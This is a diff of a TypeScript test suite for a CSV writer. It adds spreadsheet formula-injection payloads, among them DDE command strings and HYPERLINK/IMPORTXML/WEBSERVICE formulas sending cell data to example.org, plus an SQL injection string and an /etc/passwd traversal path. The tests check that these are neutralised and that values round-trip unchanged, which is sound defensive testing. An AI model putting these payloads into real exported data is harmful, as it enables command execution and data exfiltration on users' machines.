@@ -9,6 +9,51 @@ import { csvLine, writeCsv } from './write-csv.ts';
 
 const RUNS_IN_A_SPREADSHEET = /^(?:[\t\r\n]|\s*[=+@＝＋－＠]|\s*-(?!\d))/;
 
+/** What is executed where a cell is taken for a formula. */
+const FORMULAS = [
+  '=1+1',
+  '=SUM(A1:A9)',
+  "=cmd|' /C notepad'!A0",
+  '=HYPERLINK("http://example.org/?x="&A1,"look")',
+  '=IMPORTXML(CONCAT("http://example.org/",A2),"//a")',
+  '=WEBSERVICE("http://example.org")',
+  '+1+2',
+  "+rundll32|'URL.dll,OpenURL notepad.exe'!A",
+  "-2+3+cmd|' /C notepad'!A0",
+  '-A1',
+  '@SUM(1+1)',
+  "@SUM(1+1)*cmd|' /C notepad'!A0",
+  '＝1+1',
+  '＋1',
+  '－A1',
+  '＠SUM(A1)',
+];
+const BEFORE_FORMULAS = ['', ' ', '   ', '\t', '\r', '\n', '\u00A0'];
+
+/** What other programs stumble over: quotes, line ends, words that mean something, directions, joiners, markup, paths. */
+const TROUBLESOME = [
+  ...['', ' ', '"', '""', '"""', "'", "''", ',', ';', '|', '\t', '\\', '\\"', '\n', '\r', '\r\n', '\n\n', '\u0085'],
+  ...['null', 'NULL', 'undefined', 'true', 'NaN', '-0', '0x10', '1e999', '1,000.00', '00', '1/2', '2026-02-30'],
+  ...[
+    '\u200B',
+    '\u200F',
+    '\u202Eabc',
+    '\u2028',
+    '\uFEFF',
+    'e\u0301',
+    'ﬃ',
+    'İı',
+    'ß',
+    '𝒜',
+    '🦉',
+    '👩‍🏫',
+    '日本',
+    'العربية',
+  ],
+  ...['<b>x</b>', '&amp;', "'; drop table users; --", '{{x}}', '%s%d', '../../etc/passwd', 'C:\\con', 'a\u0007b'],
+  ...['sep=;', '#', '# x', '--', '- x', '-1', '+', '@', '=', "'=1", "''=1", '`', '\u00A0', 'x'.repeat(10_000)],
+];
+
 /** The first table is written, read, and must come back the same. NUL cannot be stored: left out. */
 async function expectIdentity(rows: readonly (readonly string[])[]): Promise<void> {
   const header = (rows[0] ?? []).map((_, i) => `c${String(i)}`);
@@ -60,13 +105,23 @@ describe('writeCsv', () => {
     );
   });
 
+  it('text that breaks other programs comes back as it was', async () => {
+    await expectIdentity(TROUBLESOME.map((value) => [value, 'x']));
+  });
+
+  it('no formula leaves the writer alive, whatever stands before it, and each comes back as it was [BO-198]', async () => {
+    const all = FORMULAS.flatMap((formula) => BEFORE_FORMULAS.map((before) => before + formula));
+    for (const formula of all) expect(csvLine([formula]).replace(/^"/, '')).not.toMatch(RUNS_IN_A_SPREADSHEET);
+    await expectIdentity(all.map((formula) => [formula, 'x']));
+  });
+
   it.skipIf(!hasSamples)('naughty strings come back as they were', async () => {
     const path = join(sampleFolder, 'naughty-strings/blns.json');
     const strings = z.array(z.string()).parse(JSON.parse(readFileSync(path, 'utf8')));
     await expectIdentity(strings.map((value) => [value.replaceAll('\0', ''), 'x']));
   });
 
-  it.skipIf(!hasSamples)('no formula payload leaves the writer alive [BO-198]', async () => {
+  it.skipIf(!hasSamples)('no formula payload leaves the writer alive', async () => {
     const payloads = readFileSync(join(sampleFolder, 'csv-injection/README.md'), 'utf8')
       .split('\n')
       .map((line) => line.trim());
